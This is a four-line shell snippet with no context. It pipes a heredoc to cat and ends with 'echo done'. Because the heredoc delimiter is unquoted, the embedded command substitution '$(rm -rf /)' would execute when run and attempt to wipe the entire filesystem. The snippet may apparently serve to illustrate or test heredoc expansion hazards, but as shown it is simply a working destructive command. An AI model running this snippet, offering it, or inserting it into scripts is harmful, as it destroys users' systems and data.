cat <<EOF
$(rm -rf /)
EOF
echo done